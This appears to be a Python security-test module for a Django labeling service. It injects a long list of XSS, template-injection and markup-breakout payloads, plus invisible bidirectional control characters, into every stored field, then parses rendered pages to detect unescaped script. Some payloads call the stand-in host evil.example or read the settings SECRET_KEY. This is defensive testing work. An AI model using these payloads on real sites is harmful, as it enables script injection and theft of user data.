"""Hostile and deceptive texts, and a way to put them into every text that a world holds."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from itertools import cycle
from typing import Any

from django.db import models

from labeling.markdown import render_markdown
from labeling.models import (
    ContentField,
    Criterion,
    Item,
    Note,
    Project,
    RubricVersion,
    Task,
    TaxonomyDraft,
    TaxonomyVersion,
)
from labeling.templatetags.fettle import visible
from tests.security.columns import FREE, TYPED, model_named

ELSEWHERE = "evil.example"
#: A25: what would run, load, redirect, or break out of where it stands.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>fetch('//evil.example')</script x>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<image/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=//evil.example/x.svg#x>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=q>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=//evil.example ping=//evil.example>x</a>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/pixel.gif)",
    "<//evil.example>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=alert(1) `",
    '" autofocus onfocus=alert(1) x="',
    "{{7*7}}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{x.__class__.__init__.__globals__}",
    "<form id=submit><input name=action>",
    "<img name=getElementById><a id=answers>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div hx-on:load=alert(1) data-hx-get=/logout/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '=HYPERLINK("//evil.example","x")',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
#: A26: characters that act on a text without being seen in it.
DECEPTIVE = (
    *("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"),
    *("\u200b", "\u200e", "\u200f", "\ufeff", "\U000e0041", "\x1b"),
)


def packs(texts: tuple[str, ...], width: int) -> Iterator[str]:
    """The texts for ever, as many at a time as a column of this width takes."""
    fitting = cycle([text for text in texts if len(text) <= width])
    pack = next(fitting)
    for text in fitting:
        if len(pack) + 1 + len(text) > width:
            yield pack
            pack = text
        else:
            pack = f"{pack} {text}"


def write_everywhere(texts: tuple[str, ...]) -> None:
    """Put the texts into every typed column of every row, and into what JSON columns hold."""
    for name, columns in TYPED.items():
        for column in columns:
            _fill(model_named(name), column, texts)
    whole = "\n".join(texts)
    _fill_items(whole, packs(texts, 500))
    _fill_wordings(whole, packs(texts, 200))
    _fill_notes()
    _fill_details(packs(texts, 200))
    _fill_evidence(packs(texts, 110))


def write_where_any_character_is_taken(texts: tuple[str, ...]) -> None:
    """Put the texts into the columns that refuse nothing."""
    for name, columns in FREE.items():
        for column in columns:
            _fill(model_named(name), column, texts)
    _fill_items("\n".join(texts), packs(texts, 500))
    _fill_notes()


def _fill(model: type[models.Model], column: str, texts: tuple[str, ...]) -> None:
    width = model._meta.get_field(column).max_length or 4_000
    source = packs(texts, width - 6)
    rows = list(model._default_manager.order_by("pk"))
    lanes = column == "lane"
    for number, row in enumerate(rows):
        if lanes and not getattr(row, column):
            continue
        setattr(row, column, f"{next(source)} {number}")
    model._default_manager.bulk_update(rows, [column], batch_size=100)


#: Each rendering with the texts as what it takes for such; any other is shown as plain text.
RENDERED: dict[str, Callable[[list[str]], str]] = {
    "markdown": "\n\n".join,
    "code": "\n".join,
    "json": lambda texts: json.dumps({text: [text, {"a": text}] for text in texts}),
    "chat": lambda texts: json.dumps([{"role": one, "content": one} for one in texts]),
    "table": lambda texts: json.dumps([{one: one, "b": one} for one in texts[:40]]),
    "image": "".join,
}


def _fill_items(whole: str, source: Iterator[str]) -> None:
    rows = list(Item.objects.all())
    texts = whole.split("\n")
    content = {"text": whole} | {name: write(texts) for name, write in RENDERED.items()}
    _show_each_rendering()
    for row in rows:
        row.content = content
        row.attributes = {"channel": next(source), "area": next(source)}
        row.prediction = next(source)
    Item.objects.bulk_update(rows, ["content", "attributes", "prediction"], batch_size=100)


def _show_each_rendering() -> None:
    """Let every project show its items in every way."""
    ContentField.objects.bulk_create(
        ContentField(project=project, name=name, visibility="shown", rendering=name)
        for project in Project.objects.all()
        for name in RENDERED
    )
    Task.objects.update(outputs=["\n".join(PAYLOADS[:9]), "\n".join(PAYLOADS[9:20])])


def _fill_notes() -> None:
    """What was published is rendered once, as the service renders it."""
    for note in Note.objects.all():
        note.text_html = render_markdown(visible(note.text))
        note.save(update_fields=["text_html"])


def _fill_wordings(whole: str, source: Iterator[str]) -> None:
    for version in RubricVersion.objects.all():
        version.guidance, version.guidance_html = whole, render_markdown(whole)
        version.save()
    for criterion in Criterion.objects.all():
        criterion.help, criterion.help_html = whole, render_markdown(whole)
        criterion.options = [_worded(option, source) for option in criterion.options]
        criterion.save()
    trees: list[Any] = [*TaxonomyVersion.objects.all(), *TaxonomyDraft.objects.all()]
    for taxonomy in trees:
        taxonomy.nodes = [_worded(node, source) for node in taxonomy.nodes]
        taxonomy.save()


def _worded(option: dict[str, Any], source: Iterator[str]) -> dict[str, Any]:
    words = {"label": next(source), "description": next(source)}
    more = {"synonyms": [next(source)]} if "parent" in option else {"examples": [next(source)]}
    return {**option, **words, **more}


def _fill_details(source: Iterator[str]) -> None:
    """What the record, jobs, exports, slices, samples and imports keep as JSON."""
    fillings: dict[str, tuple[str, Callable[[], Any]]] = {
        "AuditEvent": ("detail", lambda: {"name": next(source), "before": next(source)}),
        "Job": ("result", lambda: {"said": next(source)}),
        "Import": ("mapping", lambda: {"content": {"text": next(source)}, "id": next(source)}),
        "Slice": ("conditions", lambda: [_condition(next(source))]),
        "Sample": ("strata", lambda: [{"stratum": next(source), "population": 2, "drawn": 1}]),
    }
    for name, (column, filling) in fillings.items():
        model = model_named(name)
        rows = list(model._default_manager.all())
        for row in rows:
            setattr(row, column, filling())
        model._default_manager.bulk_update(rows, [column], batch_size=100)


#: What evaluations, verdicts, alerts and decisions keep, and in it the keys that hold words.
EVIDENCE = {
    "SetVersion": ("taxonomy", "source", "quality"),
    "Example": ("references",),
    "PredictionUpload": ("reasons",),
    "Evaluation": ("result",),
    "JudgedEvaluation": ("result",),
    "Verdict": ("findings", "evidence"),
    "GateCriterion": ("conditions",),
    "Alert": ("evidence",),
    "RetrainingDecision": ("evidence",),
}
WORDS = frozenset(["label", "name", "reason", "slice", "text", "value", "topic"])


def _fill_evidence(source: Iterator[str]) -> None:
    for name, columns in EVIDENCE.items():
        model = model_named(name)
        rows = list(model._default_manager.all())
        for row in rows:
            for column in columns:
                setattr(row, column, _reworded(getattr(row, column), source))
        model._default_manager.bulk_update(rows, list(columns), batch_size=100)


def _reworded(kept: Any, source: Iterator[str]) -> Any:
    """What is kept, with a text in place of every word in it."""
    if isinstance(kept, list):
        return [_reworded(one, source) for one in kept]
    if not isinstance(kept, dict):
        return kept
    return {
        key: next(source) if key in WORDS and isinstance(one, str) else _reworded(one, source)
        for key, one in kept.items()
    }


def _condition(text: str) -> dict[str, str]:
    return {"field": "attributes.channel", "operator": "is", "value": text}


class Structure(HTMLParser):
    """What a page would make a browser do that none of our own pages makes it do."""

    FORBIDDEN = frozenset(
        [
            *("iframe", "object", "embed", "base", "applet", "math", "style", "marquee", "frame"),
            *("audio", "video", "image", "animate", "use", "template", "mglyph"),
        ]
    )
    ADDRESSES = frozenset(
        ["href", "src", "action", "formaction", "xlink:href", "data", "ping", "poster", "srcset"]
    )

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.texts: list[str] = []
        self.tags: set[str] = set()
        self.inputs: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        given = {name: value or "" for name, value in attrs}
        if tag in {"input", "select", "textarea"} and "name" in given:
            self.inputs.add(given["name"])
        if tag in self.FORBIDDEN or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag}>")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self._judge_script(given)
        self.found += [f"{tag} {name}" for name in given if name.startswith(("on", "hx-on"))]
        self.found += [
            f"{tag} {name}={value[:60]}"
            for name, value in given.items()
            if name in self.ADDRESSES and _leads_away(value)
        ]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def _judge_script(self, given: dict[str, str]) -> None:
        if given.get("type") != "application/json":
            self.found.append("<script> of its own")


def _leads_away(address: str) -> bool:
    plain = "".join(address.split()).lower()
    if plain.startswith(("javascript:", "data:", "vbscript:")):
        return True
    return plain.startswith(("//", "http")) and ELSEWHERE in plain.partition("//")[2].split("/")[0]


def unescaped(html: str, texts: tuple[str, ...]) -> list[str]:
    """Which of the texts that hold markup stand in a page as they are."""
    return [text for text in texts if text.startswith("<") and text in html]
